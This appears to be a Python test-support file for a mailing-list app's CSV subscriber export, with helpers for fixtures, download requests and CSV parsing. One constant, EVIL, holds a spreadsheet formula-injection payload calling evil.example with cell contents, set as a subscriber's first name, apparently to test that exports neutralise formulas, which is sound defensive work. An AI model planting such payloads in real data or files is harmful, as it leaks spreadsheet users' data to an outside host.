"""Files of a list, as a browser has them made and saves them."""

import csv
import gzip
import io
import re
from html import unescape

from chalicelib.lists.model import MailingList
from tests.support.answer import Answer
from tests.support.office import Office
from tests.support.world import World

EVIL = "=HYPERLINK(\"https://evil.example/?\"&A1)"
PEOPLE = {"what": "people", "form": "csv"}


def a_garden(world: World) -> MailingList:
    """A list with Carol, Dave who asked not to be mailed, and Erin, whose name is a formula; somebody waits."""
    garden = world.a_list()
    world.subscribed(garden, world.carol)
    world.subscribed(garden, "dave@example.org")
    world.restrict(garden, "dave@example.org")
    world.sign_up(garden, "erin@example.org", first_name=EVIL)
    world.confirm(world.confirmation_link())
    world.sign_up(garden, "waiting@example.org")
    return garden


def path(garden: MailingList) -> str:
    return f"/dashboard/lists/{garden.id}/downloads"


def asked(office: Office, garden: MailingList, **form: str) -> Answer:
    answer = office.post(path(garden), **(PEOPLE | form))
    assert answer.status == 303, answer.text
    return answer


def link(answer: Answer) -> str:
    found = re.search(r'href="(https?://[^"]*X-Amz-[^"]*)"', answer.text)
    assert answer.status == 200, answer.text
    assert found, answer.text
    return unescape(found[1])


def fetched(office: Office, garden: MailingList, **form: str) -> bytes:
    """What a browser saves."""
    answer = office.post(f"{path(garden)}/file", **(PEOPLE | form))
    assert answer.status == 200, answer.text
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["Content-Encoding"] == "gzip"
    return gzip.decompress(answer.body)


def rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith("\ufeff".encode()), "Excel knows UTF-8 by it"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
